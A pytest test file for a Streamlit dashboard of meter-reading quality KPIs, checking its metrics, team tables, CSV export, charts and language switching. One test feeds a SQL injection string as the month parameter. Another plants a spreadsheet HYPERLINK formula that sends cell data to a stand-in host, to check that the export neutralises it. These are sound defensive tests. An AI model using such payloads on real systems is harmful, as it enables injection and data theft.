"""The KPI dashboard page, driven through Streamlit's AppTest on a tiny hand-made snapshot.

Snapshot: 2 teams × 3 months (hand-computed values in the comments).

             team  due   read  missed  est  errors
  2026-01    一队  1000  1000    0      0     0
             二队   500   495    5      0     1
  2026-02    一队  1000   980   12      8    NULL   (no review findings delivered)
             二队   500   490    6      4    NULL
  2026-03    一队  1000   990    6      4     1
             二队   500   485   10      5     3

Centre 2026-03: 实抄率 1475/1500 = 98.33% (the mean of team rates would be 98.00%);
差错率 4/1475 = 0.271% (the mean of team rates would be 0.360%); 27.1 per 万户;
漏抄率 16/1500 = 1.07%; 估抄率 9/1500 = 0.60%; vs 2026-02 实抄率 1470/1500 = 98.00% → +0.33 pp.
Centre 2026-01: 实抄率 1495/1500 = 99.67%; 差错率 1/1495 = 0.067%.
"""

from __future__ import annotations

import json
import os
from datetime import datetime
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

from dashboards.i18n import CATALOG
from readq.config import home
from tests.conftest import run_dashboard

REPO = Path(__file__).resolve().parents[1]
SCHEMA = REPO / "warehouse" / "sql" / "schema.sql"
VERSION = "2026.11.1+test0001"

# (period, team, due, read, missed, estimated, errors)
ROWS = [
    ("2026-01", "抄表一队", 1000, 1000, 0, 0, 0),
    ("2026-01", "抄表二队", 500, 495, 5, 0, 1),
    ("2026-02", "抄表一队", 1000, 980, 12, 8, None),
    ("2026-02", "抄表二队", 500, 490, 6, 4, None),
    ("2026-03", "抄表一队", 1000, 990, 6, 4, 1),
    ("2026-03", "抄表二队", 500, 485, 10, 5, 3),
]


@pytest.fixture(autouse=True)
def _isolated(streamlit_isolated):
    """Fresh Streamlit caches and data folder for every test (see conftest)."""


def build_snapshot(path: Path, rows: list[tuple] = ROWS) -> Path:
    """Create the schema in a new DuckDB at `path` and insert `rows` (plus their config record)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(path))
    try:
        con.execute(SCHEMA.read_text(encoding="utf-8"))
        for period, team, due, read, missed, est, errors in rows:
            con.execute(
                """
                insert into marts.kpi_team_month (
                    period, team, customers_due, customers_read, customers_missed, customers_estimated,
                    customers_remote, customers_team_from_assignment, customers_with_error, meters_due,
                    meters_with_error, kwh_due, kwh_error, actual_read_rate, missed_rate, estimated_rate,
                    error_rate, error_rate_meter, error_rate_kwh, errors_per_10k, actual_read_rate_target,
                    error_rate_target, config_version, computed_at
                ) values (
                    ?, ?, ?, ?, ?, ?, 0, 0, ?, ?, ?, ?, ?,
                    ?, ?, ?, ?, null, null, ?, 1.0, 0.001, ?, ?)
                """,
                [
                    period,
                    team,
                    due,
                    read,
                    missed,
                    est,
                    errors,
                    due,
                    errors,
                    float(due * 100),
                    None if errors is None else float(errors * 100),
                    read / due,
                    missed / due,
                    est / due,
                    None if errors is None else errors / read,
                    None if errors is None else errors / read * 10_000,
                    VERSION,
                    datetime(2026, 4, 2, 8, 30),
                ],
            )
        files = {
            "readq.toml": 'version = "2026.11.1"',
            "targets.toml": "[missed_rate]\ntarget = 0.0\n[estimated_rate]\ntarget = 0.0\n",
        }
        con.execute(
            "insert into ops.config_versions values (?, ?, ?)", [VERSION, datetime(2026, 4, 1), json.dumps(files)]
        )
    finally:
        con.close()
    return path


@pytest.fixture
def snapshot() -> Path:
    return build_snapshot(home().published)


def run_app(**query: str | list[str]) -> AppTest:
    return run_dashboard(**query)


def metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


def table(at: AppTest) -> dict[str, dict[str, object]]:
    df = at.dataframe[0].value
    first = df.columns[0]
    return {row[first]: row.to_dict() for _, row in df.iterrows()}


def test_default_month_centre_kpis_in_chinese(snapshot):
    at = run_app()
    assert at.title[0].value == "抄表质量指标"
    assert at.header[0].value == "2026-03 月度指标"
    assert any(VERSION in c.value for c in at.caption)
    m = metrics(at)
    assert m["实抄率"] == "98.33%"
    assert m["差错率（户）"] == "0.271%"
    assert m["差错户数 / 万户"] == "27.1"
    assert m["漏抄率"] == "1.07%"
    assert m["估抄率"] == "0.60%"
    deltas = {mt.label: mt.delta for mt in at.metric}
    assert deltas["实抄率"] == "+0.33 个百分点"
    assert deltas["差错率（户）"] in (None, "")  # last month had no findings: no delta
    assert any("目标 ≥ 100.00%" in c.value for c in at.caption)
    assert any("目标 ≤ 0.100%" in c.value for c in at.caption)


def test_team_table_counts_and_rates(snapshot):
    rows = table(run_app())
    one, two, total = rows["抄表一队"], rows["抄表二队"], rows["合计"]
    assert (one["应抄户数"], one["实抄户数"], one["未抄户数"], one["估抄户数"]) == (1000, 990, 6, 4)
    assert (one["差错户数"], one["实抄率"], one["差错率"]) == ("1", "99.00%", "0.101%")
    assert one["差错率目标"] == "0.100%"
    assert one["差错率达标"] == "✗ 未达标"
    assert (two["实抄户数"], two["差错户数"], two["实抄率"], two["差错率"]) == (485, "3", "97.00%", "0.619%")
    assert (total["应抄户数"], total["实抄户数"], total["实抄率"], total["差错率"]) == (1500, 1475, "98.33%", "0.271%")


def test_csv_download(snapshot, downloads):
    captured = downloads
    run_app(month="2026-02")
    assert captured["file_name"] == "kpi_team_2026-02.csv"
    assert captured["on_click"] == "ignore"
    data = captured["data"]
    assert isinstance(data, bytes) and data.startswith(b"\xef\xbb\xbf")  # BOM for Excel
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("抄表队,应抄户数,实抄户数,未抄户数,估抄户数,差错户数,实抄率（%）")
    # counts and rates as numbers; no review findings -> empty cells, never 0
    assert lines[1] == "抄表一队,1000,980,12,8,,98.0,,0.1,,2026.11.1+test0001"
    assert lines[3] == "合计,1500,1470,18,12,,98.0,,0.1,,2026.11.1+test0001"


def test_trend_charts_leave_gaps_for_missing_error_data(snapshot):
    charts = run_app().get("plotly_chart")
    assert len(charts) == 2
    read_fig, error_fig = (json.loads(c.proto.spec) for c in charts)
    read_lines = {tr["name"]: tr for tr in read_fig["data"]}
    assert set(read_lines) == {"抄表一队", "抄表二队", "目标"}
    assert read_lines["目标"]["line"]["dash"] == "dash"
    assert read_lines["目标"]["y"] == [1.0, 1.0, 1.0]
    errors = {tr["name"]: tr for tr in error_fig["data"]}
    assert errors["抄表一队"]["x"] == ["2026-01", "2026-02", "2026-03"]
    assert errors["抄表一队"]["y"][1] is None  # 2026-02: no findings -> gap, not 0
    assert errors["抄表二队"]["y"][2] == pytest.approx(3 / 485)
    assert errors["目标"]["line"]["dash"] == "dash"


def test_month_param_selects_month(snapshot):
    at = run_app(month="2026-01")
    assert at.header[0].value == "2026-01 月度指标"
    m = metrics(at)
    assert m["实抄率"] == "99.67%"
    assert m["差错率（户）"] == "0.067%"
    assert {mt.label: mt.delta for mt in at.metric}["实抄率"] in (None, "")  # no 2025-12


@pytest.mark.parametrize("bad", ["2026-13", "2026-03' or 1=1 --", "latest", ""])
def test_invalid_month_param_falls_back_to_latest(snapshot, bad):
    at = run_app(month=bad)
    assert at.header[0].value == "2026-03 月度指标"
    assert metrics(at)["实抄率"] == "98.33%"


def test_null_errors_month_shows_no_data_not_zero(snapshot):
    at = run_app(month="2026-02")
    m = metrics(at)
    assert m["实抄率"] == "98.00%"
    assert m["差错率（户）"] == "无数据"
    assert m["差错户数 / 万户"] == "无数据"
    rows = table(at)
    for team in ("抄表一队", "抄表二队", "合计"):
        assert rows[team]["差错户数"] == "无数据"
        assert rows[team]["差错率"] == "无数据"
        assert rows[team]["差错率达标"] == "无数据"
    assert any("无数据" in i.value for i in at.info)
    assert "0.000%" not in m.values()


def test_team_param_filters_scope(snapshot):
    at = run_app(team=["抄表二队", "不存在的队"])
    m = metrics(at)
    assert m["实抄率"] == "97.00%"
    assert m["差错率（户）"] == "0.619%"
    assert set(table(at)) == {"抄表二队", "合计"}


def test_new_publish_shows_up_and_partial_error_data(snapshot):
    assert metrics(run_app())["差错率（户）"] == "0.271%"
    # The pipeline publishes a new snapshot with os.replace; 二队 has no findings for 2026-03.
    rows = [r if (r[0], r[1]) != ("2026-03", "抄表二队") else (*r[:6], None) for r in ROWS]
    staged = build_snapshot(snapshot.with_name("next.duckdb"), rows)
    os.replace(staged, snapshot)
    at = run_app()
    assert metrics(at)["差错率（户）"] == "0.101%"  # 1/990: only the team with findings
    assert any("1/2" in c.value for c in at.caption)
    assert table(at)["抄表二队"]["差错率"] == "无数据"


def test_english_via_query_param(snapshot):
    at = run_app(lang="en")
    assert at.title[0].value == "Reading-quality KPIs"
    assert at.header[0].value == "KPIs for 2026-03"
    m = metrics(at)
    assert m["Actual-read rate"] == "98.33%"
    assert m["Error rate (customers)"] == "0.271%"
    assert {mt.label: mt.delta for mt in at.metric}["Actual-read rate"] == "+0.33 pp"
    assert "Customers due" in at.dataframe[0].value.columns


def test_unknown_lang_falls_back_to_chinese(snapshot):
    at = run_app(lang="fr")
    assert at.title[0].value == "抄表质量指标"


def test_language_switch_keeps_month(snapshot):
    at = run_app(month="2026-01")
    at.radio(key="ui_lang").set_value("en").run()
    assert not at.exception
    assert at.title[0].value == "Reading-quality KPIs"
    assert at.header[0].value == "KPIs for 2026-01"
    assert at.query_params["lang"] == "en"  # written back to the URL
    at.radio(key="ui_lang").set_value("zh").run()
    assert at.title[0].value == "抄表质量指标"
    assert at.header[0].value == "2026-01 月度指标"
    assert "lang" not in at.query_params  # the default language keeps the URL clean


def test_missing_snapshot_shows_info():
    at = run_app()
    assert len(at.info) == 1
    assert "uv run readq demo" in at.info[0].value
    assert not at.metric
    en = run_app(lang="en")
    assert "No published data snapshot" in en.info[0].value


def test_snapshot_without_mart_shows_info():
    path = home().published
    path.parent.mkdir(parents=True, exist_ok=True)
    duckdb.connect(str(path)).close()
    at = run_app()
    assert "marts.kpi_team_month" in at.info[0].value


def test_catalogs_have_identical_keys():
    assert set(CATALOG["zh"]) == set(CATALOG["en"])
    assert all(CATALOG[lang][key].strip() for lang in CATALOG for key in CATALOG[lang])


def test_csv_download_cannot_run_formulas(downloads):
    """A team name from the exports that a spreadsheet would evaluate is written as text; numbers stay numbers."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    build_snapshot(home().published, [(p, evil if t == "抄表一队" else t, *rest) for p, t, *rest in ROWS])
    run_app(month="2026-03")
    lines = downloads["data"].decode("utf-8-sig").splitlines()
    assert lines[1].startswith('"\'=HYPERLINK(""http://x.example/?""&A1,""点击"")",1000,990,6,4,1,99.0,')
    assert not any(line.startswith(("=", '"=')) for line in lines)
